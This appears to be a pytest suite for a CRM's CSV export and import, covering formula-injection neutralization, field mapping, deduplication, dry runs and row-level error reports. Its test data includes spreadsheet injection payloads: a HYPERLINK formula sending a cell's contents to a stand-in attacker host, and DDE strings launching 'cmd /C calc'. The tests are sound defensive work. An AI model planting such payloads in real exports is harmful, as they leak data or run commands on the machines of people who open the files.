"""CSV: formula injection neutralized on export; import with mapping, dedupe, dry run and a report per row."""

from __future__ import annotations

import csv
import io
from dataclasses import asdict

import pytest
from sqlalchemy import func, select

from hub.crm_link import identities
from hub.crm_link.attributes import define_attribute
from hub.crm_link.contacts import ContactFields, create_contact
from hub.crm_link.csv_export import export_rows, neutralize
from hub.crm_link.csv_import import import_companies, import_contacts
from hub.db.models import Company, Contact, ContactIdentity
from hub.errors import ValidationFailed
from tests.crm_link.test_restriction import admin_of
from tests.inbox.outbound_env import Env


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1, "Details")', '\'=HYPERLINK("http://evil.example/?x="&A1, "Details")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("+49 30 1234567", "+49 30 1234567"),
        ("-12.5", "-12.5"),
        ("Erika Mustermann", "Erika Mustermann"),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_made_inert(cell: str | None, exported: str) -> None:
    assert neutralize(cell) == exported


async def exported(env: Env, delimiter: str = ",") -> list[list[str]]:
    raw = b"".join([chunk async for chunk in export_rows(env.services, [], delimiter=delimiter)])
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode().removeprefix("\ufeff")), delimiter=delimiter))


async def test_an_export_holds_every_contact_with_hyperlink_formulas_inert(hub_env: Env) -> None:
    await define_attribute(hub_env.services, admin_of(hub_env), "city", "Stadt", "text")
    evil = '=HYPERLINK("http://evil.example","klick")'
    await create_contact(
        hub_env.services, hub_env.supervisor, ContactFields(name=evil, attributes={"city": "=1+1"}),
        [identities.email("evil@example.de"), identities.phone("+4930123456")],
    )
    await create_contact(hub_env.services, hub_env.supervisor, ContactFields(name="Brav"), [identities.email("b@x.de")])
    header, first, second = await exported(hub_env, ";")
    assert header[:4] == ["id", "name", "emails", "phones"] and header[-1] == "attribute:city"
    assert first[1] == "'" + evil and first[-1] == "'=1+1"
    assert (first[2], first[3]) == ("evil@example.de", "+4930123456")
    assert second[1] == "Brav"


async def test_import_matches_by_identity_reports_each_row_and_the_dry_run_is_the_real_run(hub_env: Env) -> None:
    await define_attribute(hub_env.services, admin_of(hub_env), "revenue", "Umsatz", "number")
    known = await create_contact(hub_env.services, hub_env.supervisor, ContactFields(name=None),
                                 [identities.email("known@example.de")])
    other = await create_contact(hub_env.services, hub_env.supervisor, ContactFields(name="Andere"),
                                 [identities.phone("+4940111222")])
    text = (
        "Name;E-Mail;Telefon;Firma;Stufe;Umsatz;Schlagworte;Notiz\n"
        "Known Person;KNOWN@example.de;;Acme GmbH;customer;12,5;vip;egal\n"    # row 2: updates `known`
        "Neu Eins;neu@example.de;030 555 1234;acme gmbh;lead;7;;\n"             # row 3: created, same company
        "Kaputt;not-an-email;;;;;;\n"                                           # row 4: bad email
        "Ohne Adresse;;;;;;;\n"                                                 # row 5: nothing to match
        "Neu Eins again;;+49 30 5551234;;;;b2b;\n"                               # row 6: same person as row 3
        "Zwei Leute;known@example.de;+4940111222;;;;;\n"                        # row 7: two contacts
        "Schlechte Zahl;z@example.de;;;;viel;;\n"                               # row 8: typed attribute
        "Falsche Stufe;s@example.de;;;friend;;;\n"                              # row 9: bad stage
    )
    mapping = {"Name": "name", "E-Mail": "email", "Telefon": "phone", "Firma": "company", "Stufe": "lifecycle_stage",
               "Umsatz": "attribute:revenue", "Schlagworte": "tags", "Notiz": "ignore"}
    dry = await import_contacts(hub_env.services, text, mapping, actor=None, dry_run=True, region="DE")
    assert await hub_env.count(Contact) == 2 and await hub_env.count(Company) == 0  # nothing written
    real = await import_contacts(hub_env.services, text, mapping, actor=None, dry_run=False, region="DE")

    assert (real.rows, real.created, real.updated, real.failed) == (8, 1, 2, 5)
    assert [(r.row, r.action) for r in real.results] == [
        (2, "updated"), (3, "created"), (4, "failed"), (5, "failed"), (6, "updated"), (7, "failed"), (8, "failed"),
        (9, "failed"),
    ]
    assert [(e.row, e.column) for e in real.errors] == [
        (4, "E-Mail"), (5, None), (7, None), (8, "Umsatz"), (9, "Stufe"),
    ]
    assert "different contacts" in real.errors[2].message
    new = {r.contact_id for r in real.results if r.action == "created"}
    assert {**asdict(dry), "dry_run": True} == {
        **asdict(real), "dry_run": True,
        "results": [{**asdict(r), "contact_id": None if r.contact_id in new else r.contact_id} for r in real.results],
    }
    async with hub_env.services.sessions() as session:
        updated = await session.get(Contact, known.id)
        created = await session.scalar(select(Contact).where(Contact.name == "Neu Eins"))
        companies = (await session.scalars(select(Company.name))).all()
        phones = await session.scalar(
            select(func.count()).select_from(ContactIdentity).where(ContactIdentity.address == "+49305551234")
        )
    assert updated is not None and (updated.name, updated.lifecycle_stage) == ("Known Person", "customer")
    assert updated.attributes == {"revenue": 12.5}
    assert created is not None and created.company_id == updated.company_id and companies == ["Acme GmbH"]
    assert phones == 1
    assert await hub_env.count(Contact) == 3 and other.id


async def test_bad_files_and_mappings_are_refused_whole(hub_env: Env) -> None:
    for text, mapping in (
        ("", {"a": "email"}),
        ("E-Mail\nx@y.de\n", {"Mail": "email"}),
        ("E-Mail\nx@y.de\n", {"E-Mail": "password"}),
        ("Name\nErika\n", {"Name": "name"}),
        ('E-Mail;Name\n"x@y.de;broken\n', {"E-Mail": "email"}),
    ):
        with pytest.raises(ValidationFailed):
            await import_contacts(hub_env.services, text, mapping, actor=None, dry_run=False)
    assert await hub_env.count(Contact) == 0


async def test_companies_are_imported_by_domain_then_name(hub_env: Env) -> None:
    text = "Firma,Web\nAcme GmbH,acme.de\nBeta AG,\nAcme Group,https://ACME.de/\n,leer.de\n"
    report = await import_companies(hub_env.services, text, {"Firma": "name", "Web": "domain"}, dry_run=False)
    assert (report.created, report.updated, report.failed) == (2, 1, 1)
    async with hub_env.services.sessions() as session:
        rows = (await session.execute(select(Company.name, Company.domain).order_by(Company.id))).all()
    assert rows == [("Acme Group", "acme.de"), ("Beta AG", None)]
